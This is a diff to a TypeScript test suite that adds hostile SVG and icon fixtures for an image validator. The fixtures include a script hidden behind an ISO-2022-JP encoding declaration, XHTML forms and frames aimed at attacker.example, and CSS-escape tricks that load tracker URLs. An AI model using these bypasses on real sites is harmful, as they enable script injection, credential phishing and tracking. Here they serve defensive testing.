@@ -121,7 +121,7 @@ export const hostileCases: HostileCase[] = [
     name: 'an SVG animating a link into javascript:',
     point: 1,
     files: { 'public/images/evil.svg': svg('<a href="#x"><set attributeName="href" to="javascript:alert(1)"/><rect width="10" height="10"/></a>') },
-    expect: error('public/images/evil.svg:2:', 'changes "href"'),
+    expect: error('public/images/evil.svg:2:', '<set> element, which is not part of a drawing'),
   },
   {
     name: 'an SVG with an entity declaration',
@@ -134,6 +134,104 @@ export const hostileCases: HostileCase[] = [
     point: 1,
     files: { 'public/images/evil.svg': svg('<style>@import url(https://tracker.example/a.css);</style>') },
     expect: error('public/images/evil.svg:2:1', '<style> loads something'),
+  },
+  // SVG check bypasses from the audit: the check is an allowlist of what drawings need, UTF-8 only.
+  {
+    name: 'an SVG whose <script> hides behind an ISO-2022-JP encoding declaration',
+    point: 1,
+    files: {
+      // Read as UTF-8 the script is inside a comment; read as ISO-2022-JP "<!--" is two kanji and the script runs.
+      'public/images/evil.svg': `<?xml version="1.0" encoding="ISO-2022-JP"?>\n${svg('<text>\x1b$B<!--\x1b(B</text><script>alert(document.domain)</script><text>--></text>')}`,
+    },
+    expect: error('public/images/evil.svg:1:1', 'declares the encoding "ISO-2022-JP"'),
+  },
+  {
+    name: 'an SVG with the ISO-2022-JP escape bytes but no declaration',
+    point: 1,
+    files: { 'public/images/evil.svg': svg('<text>\x1b$B<!--\x1b(B</text>') },
+    expect: error('public/images/evil.svg:2:7', 'control character U+001B'),
+  },
+  ...(
+    [
+      ['meta', '<meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=https://attacker.example/"/>'],
+      ['form', '<form xmlns="http://www.w3.org/1999/xhtml" action="https://attacker.example/"><input name="password"/></form>'],
+      ['iframe', '<iframe xmlns="http://www.w3.org/1999/xhtml" src="https://attacker.example/"/>'],
+      ['video', '<video xmlns="http://www.w3.org/1999/xhtml" src="https://tracker.example/v.mp4" autoplay="autoplay"/>'],
+    ] as const
+  ).map(([element, markup]) => ({
+    name: `an SVG with an XHTML <${element}> inside`,
+    point: 1,
+    files: { 'public/images/evil.svg': svg(markup) },
+    expect: error('public/images/evil.svg:2:1', `<${element}> element, which is not part of a drawing`),
+  })),
+  {
+    name: 'an SVG switching a shape to the XHTML namespace',
+    point: 1,
+    files: { 'public/images/evil.svg': svg('<g xmlns="http://www.w3.org/1999/xhtml"><rect width="10" height="10"/></g>') },
+    expect: error('public/images/evil.svg:2:1', 'switches to the namespace "http://www.w3.org/1999/xhtml"'),
+  },
+  ...(
+    [
+      ['a CSS escape in a style attribute', '<rect width="10" height="10" style="fill: \\75 rl(https://tracker.example/p)"/>', 'style on <rect>'],
+      ['a CSS escape in a <style> element', '<style>rect { fill: u\\72 l(https://tracker.example/p) }</style>', '<style> loads something'],
+      ['image-set() in a <style> element', '<style>rect { mask-image: image-set("https://tracker.example/p.png" 1x) }</style>', 'image-set()'],
+      [
+        '-webkit-image-set() in a style attribute',
+        `<rect width="10" height="10" style="mask-image: -webkit-image-set('https://tracker.example/p.png' 1x)"/>`,
+        '-webkit-image-set()',
+      ],
+      [
+        'a url( written with character references in an attribute',
+        '<rect width="10" height="10" fill="&#117;rl(https://tracker.example/p)"/>',
+        'fill on <rect>',
+      ],
+      [
+        'a url( written with character references in a <style>',
+        '<style>rect { fill: &#x75;&#x72;&#x6c;(https://tracker.example/p) }</style>',
+        '<style> loads something',
+      ],
+      ['@font-face in a <style>', '<style>@font-face { font-family: X; src: local(Arial) }</style>', '@font-face'],
+    ] as const
+  ).map(([what, markup, says]) => ({
+    name: `an SVG loading a remote file through ${what}`,
+    point: 1,
+    files: { 'public/images/evil.svg': svg(markup) },
+    expect: error('public/images/evil.svg:2:1', says),
+  })),
+  {
+    name: 'an icon whose embedded PNG carries a text chunk',
+    point: 1,
+    files: {
+      'public/favicon.ico':
+        '\x00\x00\x01\x00\x01\x00\x10\x10\x00\x00\x01\x00\x20\x00\x00\x00\x00\x00\x16\x00\x00\x00\x89PNG\r\n\x1a\n\x00\x00\x00\x10tEXtGPS\x0052.52N 13.41E',
+    },
+    expect: error('public/favicon.ico:1:1', 'the icon carries metadata (PNG tEXt in the icon)'),
+  },
+  {
+    name: 'an SVG without a size',
+    point: 1,
+    files: { 'public/images/sizeless.svg': '<svg xmlns="http://www.w3.org/2000/svg"></svg>\n' },
+    expect: error('public/images/sizeless.svg:1:1', 'the SVG has no size'),
+  },
+  {
+    name: 'an SVG of zero width',
+    point: 1,
+    files: { 'public/images/flat.svg': '<svg xmlns="http://www.w3.org/2000/svg" width="0" height="10" viewBox="0 0 10 10"></svg>\n' },
+    expect: error('public/images/flat.svg:1:1', 'width="0" is not a positive length'),
+  },
+  {
+    name: 'an exported drawing with a <style>, classes, a clip path, a local gradient and a filter',
+    point: 1,
+    files: {
+      'public/images/fine.svg': `<?xml version="1.0" encoding="UTF-8"?>\n${svg(
+        '<defs><style>.st0{fill:url(#g);stroke:rgb(10 20 30 / 50%)} @media (prefers-color-scheme: dark){.st0{opacity:.8}}</style>' +
+          '<linearGradient id="g" gradientTransform="rotate(90)"><stop offset="0" stop-color="#fff"/></linearGradient>' +
+          '<clipPath id="c"><rect width="10" height="10"/></clipPath><filter id="f"><feGaussianBlur stdDeviation="1"/></filter></defs>' +
+          '<g clip-path="url(#c)" filter="url(#f)" data-name="Layer 1"><path class="st0" d="M0 0h10v10z" transform="translate(1 1) scale(.5)"/>' +
+          '<text x="1" y="8" font-family="Georgia, \'Times New Roman\', serif" aria-hidden="true">A &amp; B</text><use xlink:href="#c"/></g>',
+      )}`,
+    },
+    expect: 'clean',
   },
   {
     name: 'a plain SVG drawing with a local gradient',
